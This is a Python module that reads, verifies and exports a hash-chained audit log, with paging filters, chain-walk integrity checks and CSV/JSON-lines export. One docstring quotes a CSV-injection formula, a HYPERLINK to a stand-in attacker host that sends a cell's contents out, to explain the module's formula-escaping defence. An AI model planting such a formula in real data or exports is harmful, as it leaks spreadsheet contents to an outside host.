"""Reading the audit log: pages, the chain walk, and exports for an auditor or complaints panel."""

import csv
import datetime as dt
import io
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from sqlalchemy import Engine, Select, Text, cast, func, select
from sqlalchemy.exc import DataError
from sqlmodel import Session, col

from app.domain.audit import ChainCheck, RawJSON, verify_chain
from app.store.errors import AuditUnreadable, NotFound
from app.store.tables import AuditEventRow, OrganisationRow

__all__ = [
    "AuditFilter",
    "export_events",
    "ActionsMemo",
    "list_actions",
    "list_events",
    "list_events_newest_first",
    "verify_organisation",
]

# The fields an event's hash covers (see unit_of_work.audit_payload), in table order.
_PAYLOAD = (
    "seq", "organisation_id", "at", "actor", "role", "action", "target", "reason",
    "before", "after", "request_id", "data_version",
)  # fmt: skip
_COLUMNS = (
    "seq", "organisation_id", "at", "actor", "role", "action", "target", "reason",
    "before", "after", "request_id", "data_version", "prev_hash", "hash",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class AuditFilter:
    """Which events to list; every field narrows the list."""

    after_seq: int | None = None
    action: str | None = None
    target: str | None = None
    actor: str | None = None
    since: dt.datetime | None = None
    until: dt.datetime | None = None
    # the console's filters: one person's actions (`Name (key id)`, any key of theirs),
    # events whose target is one of `targets` (an account, and its overrides, requests and
    # calendar links), no events of these roles (the seed's and the service's own:
    # `system`, `operator`), and paging newest first
    actor_prefix: str | None = None
    targets: tuple[str, ...] | None = None
    exclude_roles: tuple[str, ...] = ()
    before_seq: int | None = None


def _filtered(organisation_id: str, where: AuditFilter) -> Select[AuditEventRow]:
    query = select(AuditEventRow).where(col(AuditEventRow.organisation_id) == organisation_id)
    if where.after_seq is not None:
        query = query.where(col(AuditEventRow.seq) > where.after_seq)
    if where.before_seq is not None:
        query = query.where(col(AuditEventRow.seq) < where.before_seq)
    if where.action:
        query = query.where(col(AuditEventRow.action).startswith(where.action, autoescape=True))
    if where.target:
        query = query.where(col(AuditEventRow.target) == where.target)
    if where.actor:
        query = query.where(col(AuditEventRow.actor).contains(where.actor, autoescape=True))
    if where.actor_prefix:
        query = query.where(
            col(AuditEventRow.actor).startswith(where.actor_prefix, autoescape=True)
        )
    if where.exclude_roles:
        query = query.where(col(AuditEventRow.role).not_in(where.exclude_roles))
    if where.targets is not None:
        query = query.where(col(AuditEventRow.target).in_(where.targets))
    if where.since:
        query = query.where(col(AuditEventRow.at) >= where.since)
    if where.until:
        query = query.where(col(AuditEventRow.at) < where.until)
    return query


def list_events(
    engine: Engine, organisation_id: str, where: AuditFilter, *, limit: int
) -> list[AuditEventRow]:
    """A page of events in sequence order, after `where.after_seq`."""
    query = _filtered(organisation_id, where).order_by(col(AuditEventRow.seq)).limit(limit)
    with Session(engine) as session:
        try:
            return list(session.execute(query).scalars())
        except _UNREADABLE:
            session.rollback()
    raise AuditUnreadable(_first_unreadable(engine, organisation_id, where.after_seq))


def list_events_newest_first(
    engine: Engine, organisation_id: str, where: AuditFilter, *, limit: int
) -> list[AuditEventRow]:
    """A page of events, newest first, before `where.before_seq` (the console's audit page)."""
    query = _filtered(organisation_id, where).order_by(col(AuditEventRow.seq).desc()).limit(limit)
    with Session(engine) as session:
        try:
            return list(session.execute(query).scalars())
        except _UNREADABLE:
            session.rollback()
    raise AuditUnreadable(_first_unreadable(engine, organisation_id, None))


class ActionsMemo:
    """
    Per process (held by the app's services): each organisation's log actions, with the head
    of its chain when they were read. Bounded: forgotten all at once when full.
    """

    def __init__(self, *, max_entries: int = 10_000) -> None:
        self._held: dict[str, tuple[str, list[str]]] = {}
        self._max_entries = max_entries
        self._lock = threading.Lock()

    def get(self, organisation_id: str, head: str) -> list[str] | None:
        with self._lock:
            held = self._held.get(organisation_id)
        return list(held[1]) if held is not None and held[0] == head else None

    def put(self, organisation_id: str, head: str, actions: list[str]) -> None:
        with self._lock:
            if len(self._held) >= self._max_entries:
                self._held.clear()
            self._held[organisation_id] = (head, list(actions))


def list_actions(
    engine: Engine, organisation_id: str, memo: ActionsMemo | None = None
) -> list[str]:
    """
    The actions the organisation's log holds, sorted (`override.grant`, ...).

    With `memo`, remembered until the organisation records another event (the head of its
    chain, read by primary key), so the console's audit page does not scan the whole log
    each time.
    """
    table = AuditEventRow.__table__  # type: ignore[attr-defined]
    with engine.connect() as connection:
        head = connection.execute(
            select(col(OrganisationRow.audit_head)).where(
                col(OrganisationRow.id) == organisation_id
            )
        ).scalar_one_or_none()
        remembered = None if memo is None or head is None else memo.get(organisation_id, head)
        if remembered is not None:
            return remembered
        query = (
            select(table.c.action)
            .where(table.c.organisation_id == organisation_id)
            .distinct()
            .order_by(table.c.action)
        )
        actions = [str(a) for a in connection.execute(query).scalars()]
    if memo is not None and head is not None:
        memo.put(organisation_id, str(head), actions)
    return list(actions)


def _first_unreadable(engine: Engine, organisation_id: str, after_seq: int | None) -> int:
    """The sequence number of the first event after `after_seq` that cannot be read whole."""
    table = AuditEventRow.__table__  # type: ignore[attr-defined]
    query = select(table.c.seq).where(table.c.organisation_id == organisation_id)
    if after_seq is not None:
        query = query.where(table.c.seq > after_seq)
    with Session(engine) as session:
        for seq in session.execute(query.order_by(table.c.seq)).scalars():
            try:
                session.execute(
                    select(AuditEventRow).where(
                        col(AuditEventRow.organisation_id) == organisation_id,
                        col(AuditEventRow.seq) == seq,
                    )
                ).scalar_one()
            except _UNREADABLE:
                return int(seq)
    return _next_seq(engine, organisation_id, after_seq)


def _stream(
    engine: Engine, organisation_id: str, where: AuditFilter | None = None
) -> Iterator[AuditEventRow]:
    query = (
        _filtered(organisation_id, where or AuditFilter())
        .order_by(col(AuditEventRow.seq))
        .execution_options(yield_per=2000)
    )
    last: int | None = None
    with Session(engine) as session:
        try:
            for row in session.execute(query).scalars():
                last = row.seq
                yield row
        except _UNREADABLE:
            session.rollback()
        else:
            return
    raise AuditUnreadable(_first_unreadable(engine, organisation_id, last))


@dataclass(frozen=True, slots=True)
class Verification:
    """The chain walk, and whether its end matches the head the organisation recorded."""

    check: ChainCheck
    head_ok: bool
    problem: str | None

    @property
    def ok(self) -> bool:
        return self.check.ok and self.head_ok


def verify_organisation(engine: Engine, organisation_id: str) -> Verification:
    """
    Walk an organisation's chain; report the first broken event, or a missing tail.

    Raises:
        NotFound: no such organisation.
    """
    with Session(engine) as session:
        organisation = session.get(OrganisationRow, organisation_id)
    if organisation is None:
        raise NotFound(what="organisation", identifier=organisation_id)
    last: dict[str, Any] = {}
    table = AuditEventRow.__table__  # type: ignore[attr-defined]
    columns = [
        cast(table.c[name], Text) if name in ("before", "after") else table.c[name]
        for name in _PAYLOAD
    ] + [table.c.prev_hash, table.c.hash]
    query = select(*columns).where(table.c.organisation_id == organisation_id).order_by(table.c.seq)

    def walk(after_seq: int | None, per: int) -> Iterator[tuple[int, str, str, dict[str, Any]]]:
        # Core rows, not ORM objects: a full walk reads every event, and object
        # construction would cost more than the hashing.
        where = query if after_seq is None else query.where(table.c.seq > after_seq)
        with engine.connect() as connection:
            for row in connection.execute(where.execution_options(yield_per=per)):
                payload = dict(zip(_PAYLOAD, row[:-2], strict=True))
                for name in ("before", "after"):
                    text = payload[name]
                    payload[name] = RawJSON(text) if text is not None else None
                last["hash"] = row[-1]
                last["seq"] = payload["seq"]
                yield (payload["seq"], row[-2], row[-1], payload)

    def events() -> Iterator[tuple[int, str, str, dict[str, Any] | None]]:
        try:
            yield from walk(None, 5000)
            return
        except _UNREADABLE:
            pass
        # A row that cannot be read (an `at` edited into 'garbage' on SQLite, 'infinity' on
        # PostgreSQL) fails its whole batch: walk on from the last good event one row at a
        # time, to find which event it is; the chain is broken there.
        try:
            yield from walk(last.get("seq"), 1)
        except _UNREADABLE:
            unreadable = _next_seq(engine, organisation_id, last.get("seq"))
            yield (unreadable, "", "", None)

    check = verify_chain(events())
    if not check.ok:
        return Verification(check, True, check.problem)
    if check.events != organisation.audit_events or last.get("hash") != organisation.audit_head:
        problem = (
            f"the log holds {check.events} events ending {str(last.get('hash'))[:12]}, but the organisation "
            f"recorded {organisation.audit_events} ending {str(organisation.audit_head)[:12]}: "
            "the newest events were deleted, or events were added outside the service"
        )
        return Verification(check, False, problem)
    return Verification(check, True, None)


# What reading a row edited into something its column type cannot hold raises.
_UNREADABLE = (ValueError, TypeError, OverflowError, DataError)


def _next_seq(engine: Engine, organisation_id: str, after_seq: int | None) -> int:
    """The first event's sequence number after `after_seq` (the one that could not be read)."""
    table = AuditEventRow.__table__  # type: ignore[attr-defined]
    query = select(func.min(table.c.seq)).where(table.c.organisation_id == organisation_id)
    if after_seq is not None:
        query = query.where(table.c.seq > after_seq)
    with engine.connect() as connection:
        return int(connection.execute(query).scalar_one())


def _row_dict(row: AuditEventRow) -> dict[str, Any]:
    data = {name: getattr(row, name) for name in _COLUMNS}
    data["at"] = row.at.isoformat()
    return data


# A cell a spreadsheet would read as a formula (OWASP, "CSV Injection").
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _spreadsheet_safe(value: Any) -> Any:
    """
    A CSV cell that Excel, LibreOffice and Google Sheets show as text, never run as a formula.

    An actor, reason or target comes from whoever made the change: a key named
    `=HYPERLINK("https://evil.example/?"&A1)` would run when the complaints panel opens the
    export. A text cell beginning `=`, `+`, `-`, `@`, a tab or a carriage return gets a
    leading single quote, which spreadsheets take as "this is text" (OWASP). The JSON lines
    export keeps every value exactly as stored (and verifiable against its hash).
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def export_events(
    engine: Engine, organisation_id: str, fmt: str, where: AuditFilter | None = None
) -> Iterator[str]:
    """
    The whole log (or the events `where` selects) as JSON lines or CSV, in sequence order,
    with each event's hashes.

    CSV cells that a spreadsheet would take for a formula begin with a single quote
    (`_spreadsheet_safe`); JSON lines hold every value exactly as stored.
    """
    if fmt == "jsonl":
        for row in _stream(engine, organisation_id, where):
            yield json.dumps(_row_dict(row), sort_keys=True, ensure_ascii=False) + "\n"
        return
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(_COLUMNS))
    writer.writeheader()
    yield buffer.getvalue()
    for row in _stream(engine, organisation_id, where):
        buffer.seek(0)
        buffer.truncate()
        data = _row_dict(row)
        data["before"] = (
            json.dumps(data["before"], sort_keys=True) if data["before"] is not None else ""
        )
        data["after"] = (
            json.dumps(data["after"], sort_keys=True) if data["after"] is not None else ""
        )
        writer.writerow({name: _spreadsheet_safe(value) for name, value in data.items()})
        yield buffer.getvalue()
